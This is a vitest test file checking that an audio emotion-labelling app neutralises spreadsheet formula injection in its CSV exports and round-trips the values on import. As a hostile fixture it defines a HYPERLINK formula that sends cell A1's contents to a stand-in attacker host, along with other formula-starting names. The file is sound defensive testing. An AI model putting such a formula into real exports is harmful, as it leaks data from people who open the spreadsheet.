// CSV exports against spreadsheet formula injection (OWASP "CSV Injection"), on real project files:
// annotator names, file names, speaker ids and comments that would run as formulas in Excel/LibreOffice
// come out with a leading single quote in the per-rater, consensus, audit and prediction CSVs, numbers
// stay as they are, and `labels import` reads back exactly what `labels export` wrote (CLI commands run
// in-process on files).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commands } from '../../src-main/cli/commands/index';
import { CliError } from '../../src-main/cli/command';
import type { EmotionValues } from '../../src-main/contract/emotions';
import { createServices, type Services } from '../../src-main/services/index';
import { csvCell, neutraliseText, parseCsv, restoreText, toCsv } from '../../src-main/util/csv';
import { exportLabels } from '../../src-main/services/export';
import { auditCsv } from '../../src-main/services/audit-viewer';

const dir = mkdtempSync(join(tmpdir(), 'ew-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const PLUS = '+Ben';
const CLIPS = [
  { fileName: '=1+1.wav', speakerId: '-S1' },
  { fileName: '@SUM(A1).wav', speakerId: 'S2' },
  { fileName: '\t=cmd.wav', speakerId: 'S3' },
  { fileName: "'=quoted.wav", speakerId: '+S4' },
];
const hashOf = (i: number) => (i + 1).toString(16).padStart(64, 'a');
const v = (happy: number, sad = 0, anger = 0, surprise = 0, disgust = 0, fear = 0): EmotionValues => ({ happy, sad, anger, surprise, disgust, fear });

/** A project whose clips are inserted in the given order (so ids differ between projects). */
function makeProject(name: string, order: number[]): Services {
  const s = createServices(join(dir, name), { recoverJobs: false });
  const p = s.ctx.project;
  p.write(() => {
    for (const i of order) {
      p.clips.insert({
        contentHash: hashOf(i), originalPath: `/data/${CLIPS[i].speakerId}/${CLIPS[i].fileName}`, fileName: CLIPS[i].fileName,
        durationS: 2, sampleRate: 16000, originalSampleRate: 16000, channels: 1, speakerId: CLIPS[i].speakerId,
        importedAt: '2026-01-01T00:00:00.000Z', importJobId: null,
      });
    }
  });
  return s;
}
async function call<T>(s: Services, method: string, req: unknown): Promise<T> {
  const out = await s.dispatch(method, req);
  if (!out.ok) throw new Error(`${out.error.code}: ${out.error.message}`);
  return out.result as T;
}
async function runCli(name: string, argv: string[]): Promise<string> {
  const command = commands.find((c) => c.name === name)!;
  const write = process.stdout.write.bind(process.stdout);
  process.stdout.write = (() => true) as typeof process.stdout.write;
  try {
    return `exit ${(await command.run(argv)) ?? 0}`;
  } catch (err) {
    if (err instanceof CliError) return err.message;
    throw err;
  } finally {
    process.stdout.write = write;
  }
}
/** Every parsed field of a CSV that a spreadsheet would evaluate as a formula. */
function formulaCells(text: string): string[] {
  return parseCsv(text).flatMap((r) => r.fields).filter((f) => /^[=+\-@\t\r]/.test(f));
}

describe('the shared CSV writer', () => {
  it('prefixes text that starts a formula with one quote, and restoreText undoes exactly that', () => {
    expect(neutraliseText('=1+1')).toBe("'=1+1");
    expect(neutraliseText('+Ben')).toBe("'+Ben");
    expect(neutraliseText('-S1')).toBe("'-S1");
    expect(neutraliseText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseText('\tx')).toBe("'\tx");
    expect(neutraliseText('\rx')).toBe("'\rx");
    expect(neutraliseText('Ana = 2')).toBe('Ana = 2');
    // Already quoted text gets one more quote, so reading back cannot confuse it with our own prefix.
    expect(neutraliseText("'=x")).toBe("''=x");
    expect(neutraliseText("'plain")).toBe("'plain");
    const samples = ['', 'a', '=', "'", "''", "'=", "''=x", '-1', '- 1', '@', ' =x', "'-", 'x=1', '\t', '\r\n=', "'''+"];
    for (const s of samples) expect(restoreText(neutraliseText(s))).toBe(s);
  });

  it('leaves numbers alone (negative values too) and quotes per RFC 4180', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(-1.23456, 'x', (n) => n.toFixed(2))).toBe('-1.23');
    expect(csvCell('-0.5')).toBe("'-0.5");
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
    expect(csvCell(null)).toBe('');
    const text = toCsv([{ name: '=x', n: -2 }], ['name', 'n']);
    expect(text).toBe("name,n\r\n'=x,-2\r\n");
    expect(parseCsv(text).map((r) => r.fields)).toEqual([['name', 'n'], ["'=x", '-2']]);
  });
});

describe('exports of a project with hostile names', () => {
  let a: Services;
  let evil: number;
  let ben: number;
  const clipId: number[] = [];
  beforeAll(async () => {
    a = makeProject('a.sqlite', [0, 1, 2, 3]);
    for (const c of a.ctx.project.clips.all()) clipId[CLIPS.findIndex((x) => x.fileName === c.fileName)] = c.id;
    evil = (await call<{ id: number }>(a, 'annotators.create', { name: EVIL })).id;
    ben = (await call<{ id: number }>(a, 'annotators.create', { name: PLUS })).id;
    await call(a, 'labels.save', { clipId: clipId[0], annotatorId: evil, values: v(3, 1), comment: '-2+3 sounds sarcastic' });
    await call(a, 'labels.save', { clipId: clipId[1], annotatorId: evil, values: v(0, 2, 1) });
    await call(a, 'labels.save', { clipId: clipId[2], annotatorId: evil, values: v(0), notRateable: 'noise', comment: '@noise' });
    await call(a, 'labels.save', { clipId: clipId[3], annotatorId: evil, values: v(1, 0, 0, 2, 0, 3), comment: "'=already quoted" });
    await call(a, 'labels.save', { clipId: clipId[0], annotatorId: ben, values: v(2, 1) });
    await call(a, 'labels.save', { clipId: clipId[1], annotatorId: ben, values: v(1, 3) });
    await call(a, 'flags.add', { clipId: clipId[0], annotatorId: ben, reason: '=flag reason' });
  });
  afterAll(async () => { await a.close(); });

  it('per-rater CSV: names, files, speakers and comments neutralised, intensities numeric', () => {
    const { text } = exportLabels(a.ctx, 'raters', 'csv');
    expect(formulaCells(text)).toEqual([]);
    const rows = parseCsv(text).map((r) => r.fields);
    const header = rows[0];
    const col = (name: string) => header.indexOf(name);
    const first = rows.find((r) => r[col('annotator')] === `'${EVIL}` && r[col('file_name')] === "'=1+1.wav")!;
    expect(first).toBeDefined();
    expect(first[col('speaker_id')]).toBe("'-S1");
    expect(first[col('comment')]).toBe("'-2+3 sounds sarcastic");
    expect([first[col('happy')], first[col('sad')]]).toEqual(['3', '1']);
    expect(rows.some((r) => r[col('file_name')] === "''=quoted.wav" && r[col('comment')] === "''=already quoted")).toBe(true);
    expect(rows.some((r) => r[col('file_name')] === "'\t=cmd.wav")).toBe(true);
  });

  it('consensus CSV and audit CSV: no cell opens as a formula', () => {
    const consensus = exportLabels(a.ctx, 'consensus', 'csv').text;
    expect(formulaCells(consensus)).toEqual([]);
    expect(parseCsv(consensus).some((r) => r.fields[1] === "'=1+1.wav" && r.fields[2] === "'-S1")).toBe(true);
    const audit = auditCsv(a.ctx, {}).text;
    expect(formulaCells(audit)).toEqual([]);
    const actors = parseCsv(audit).slice(1).map((r) => r.fields[2]);
    expect(actors).toContain(`'${EVIL}`);
    expect(actors).toContain(`'${PLUS}`);
  });

  it('labels import reads back what labels export wrote (another project, other clip ids, CLI commands)', async () => {
    const out = join(dir, 'raters.csv');
    expect(await runCli('labels export', ['--project', join(dir, 'a.sqlite'), '--format', 'csv', '--out', out])).toBe('exit 0');
    const b = makeProject('b.sqlite', [3, 2, 1, 0]);
    await b.close();
    for (const name of [EVIL, PLUS]) {
      expect(await runCli('labels import', [out, '--project', join(dir, 'b.sqlite'), '--annotator', name])).toBe('exit 0');
    }
    const reopened = createServices(join(dir, 'b.sqlite'), { recoverJobs: false });
    try {
      const state = (s: Services) => {
        const p = s.ctx.project;
        const clips = new Map(p.clips.all().map((c) => [c.id, c.contentHash]));
        const names = new Map(p.annotators.list().map((x) => [x.id, x.name]));
        return p.labels.allCurrent()
          .map((l) => ({ hash: clips.get(l.clipId), annotator: names.get(l.annotatorId), values: l.values, notRateable: l.notRateable, comment: l.comment }))
          .sort((x, y) => `${x.annotator}${x.hash}`.localeCompare(`${y.annotator}${y.hash}`));
      };
      expect(state(reopened)).toEqual(state(a));
      expect(state(reopened).map((x) => x.comment)).toContain("'=already quoted");
      // Names come back without the export's quote too.
      expect(reopened.ctx.project.annotators.list().map((x) => x.name).sort()).toEqual([EVIL, PLUS].sort());
      // And again: a second import of the same file changes nothing.
      const again = await runCli('labels import', [out, '--project', join(dir, 'b.sqlite'), '--annotator', PLUS]);
      expect(again).toBe('exit 0');
    } finally {
      await reopened.close();
    }
  });

  it('labels import matches a neutralised file name back to its clip', async () => {
    const file = join(dir, 'by-name.csv');
    writeFileSync(file, toCsv([{ file: '=1+1.wav', happy: 1, sad: 1, anger: 1, surprise: 1, disgust: 1, fear: 1 }], ['file', 'happy', 'sad', 'anger', 'surprise', 'disgust', 'fear']));
    expect(readFileSync(file, 'utf8')).toContain("'=1+1.wav");
    expect(await runCli('labels import', [file, '--project', join(dir, 'b.sqlite'), '--annotator', 'Dora'])).toBe('exit 0');
    const b = createServices(join(dir, 'b.sqlite'), { recoverJobs: false });
    try {
      const dora = b.ctx.project.annotators.list().find((x) => x.name === 'Dora')!;
      const clip = b.ctx.project.clips.all().find((c) => c.fileName === '=1+1.wav')!;
      expect(b.ctx.project.labels.current(clip.id, dora.id)?.values).toEqual(v(1, 1, 1, 1, 1, 1));
    } finally {
      await b.close();
    }
  });

  it('a per-rater export names the annotators in it when --annotator is none of them', async () => {
    const msg = await runCli('labels import', [join(dir, 'raters.csv'), '--project', join(dir, 'b.sqlite'), '--annotator', 'Zed']);
    expect(msg).toMatch(/names 2 annotators .*none is "Zed"/);
  });
});
